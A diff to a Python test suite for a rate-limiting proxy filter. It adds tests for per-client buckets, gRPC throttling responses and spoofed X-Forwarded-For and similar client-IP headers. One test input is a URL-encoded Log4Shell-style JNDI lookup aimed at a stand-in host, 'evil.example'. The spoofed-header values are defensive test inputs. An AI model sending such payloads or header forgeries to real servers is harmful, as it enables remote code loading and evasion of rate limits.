@@ -10,6 +10,7 @@ LIMITS = [
     {"name": "per-client", "paths": [{"prefix": "/c/"}], "key": ["client"], "rate": "1/s", "burst": 5},
     {"name": "auth", "paths": [{"prefix": "/auth/"}], "key": ["client"], "rate": "1/s", "burst": 2},
     {"name": "whole-proxy", "paths": [{"prefix": "/all/"}], "key": [], "rate": "2/s", "burst": 10},
+    {"name": "slow", "paths": [{"prefix": "/slow/"}], "key": ["client"], "rate": "30/m", "burst": 1},
     {"name": "watched", "paths": [{"prefix": "/watched/"}], "key": ["client"], "rate": "1/s", "burst": 1, "mode": "detect"},
 ]
 _clients = itertools.count(1)
@@ -56,6 +57,27 @@ class Limits(Case):
         time.sleep(wait)
         self.assertEqual(self.ask("/c/x", client).status, 200)
 
+    def test_who_obeys_is_never_refused_twice(self):
+        client, waits = new_client(), []
+        for _ in range(3):
+            self.assertEqual(self.ask("/slow/x", client).status, 200)
+            waits.append(int(self.ask("/slow/x", client).value("retry-after")))
+            time.sleep(waits[-1])
+        self.assertEqual(waits, [2, 2, 2], "a token comes every two seconds")
+
+    def test_grpc(self):
+        """Status 8 is RESOURCE_EXHAUSTED; gRPC has it in a header of a 200."""
+        client = new_client()
+        headers = [("content-type", "application/grpc"), ("te", "trailers"), ("x-forwarded-for", client)]
+        for _ in range(2):
+            with self.stream(headers, path="/auth/shop.Orders/Place", end=True) as stream:
+                response = stream.answer()
+        with self.stream(headers, path="/auth/shop.Orders/Place", end=True) as stream:
+            response = stream.answer()
+        self.assertEqual((response.status, response.value("grpc-status"), response.value("retry-after")), (200, "8", "1"))
+        entry = self.envoy.access(response)
+        self.assertEqual(entry["details"], "backstop{limit:auth}")
+
     def test_groups_of_paths_have_buckets_of_their_own(self):
         client = new_client()
         self.assert_burst(lambda i: self.ask(f"/auth/{i}", client), 2)
@@ -80,6 +102,24 @@ class Limits(Case):
         client = new_client()
         self.assert_burst(lambda i: self.ask("/c/x", client, forged=f"198.51.100.{i}"), 5)
 
+    def test_no_forged_form_gains_a_bucket_or_loses_the_limit(self):
+        client = new_client()
+        self.assert_burst(lambda _: self.ask("/auth/x", client), 2, count=6)
+        forms = [
+            "", ",", ",,,,", "junk", "10.0.0.1", "10.0.0.1:80", "[2001:db8::1]", "[2001:db8::1]:80", "::ffff:10.0.0.1",
+            "unknown", "for=10.0.0.1", '"10.0.0.1"', "%00", "[", "127.0.0.1", ", ".join(f"10.0.0.{i}" for i in range(100)),
+        ]  # fmt: skip
+        began, admitted = time.monotonic(), 0
+        for form in forms:
+            in_one = [("X-Forwarded-For", f"{form}, {client}")]
+            in_two = [("X-Forwarded-For", form), ("X-Forwarded-For", client)]
+            others = [(name, form) for name in ("X-Real-Ip", "True-Client-Ip", "Forwarded", "CloudFront-Viewer-Address")]
+            for headers in (in_one, in_two, [*others, ("X-Forwarded-For", client)]):
+                status = self.send("GET", "/auth/x", headers).status
+                self.assertIn(status, (200, 429), form)
+                admitted += status == 200
+        self.assertLessEqual(admitted, int(time.monotonic() - began) + 1, "more than one a second")
+
     def test_peer_address(self):
         """As Envoy sees it, whatever stands in X-Forwarded-For."""
         self.assert_burst(lambda i: self.ask("/c/x", new_client(), source="127.0.0.9", on="peer"), 5)
@@ -100,6 +140,13 @@ class Limits(Case):
         self.assertEqual([self.ask("/watched/x", client).status for _ in range(5)], [200] * 5)
         after = self.envoy.stats("wasmcustom.backstop_").get("wasmcustom.backstop_limited_watched", 0)
         self.assertGreaterEqual(after - before, 3)
+
+    def test_near_the_limit_is_counted(self):
+        name = "wasmcustom.backstop_near_limit_per_client"
+        before = self.envoy.stats(name)[name]
+        client = new_client()
+        self.assert_burst(lambda _: self.ask("/c/x", client), 5)
+        self.assertGreaterEqual(self.envoy.stats(name)[name] - before, 1)
 
     def test_attacks_are_refused_within_the_limit(self):
         target = "/c/x?q=%24%7Bjndi:ldap://evil.example/a%7D"
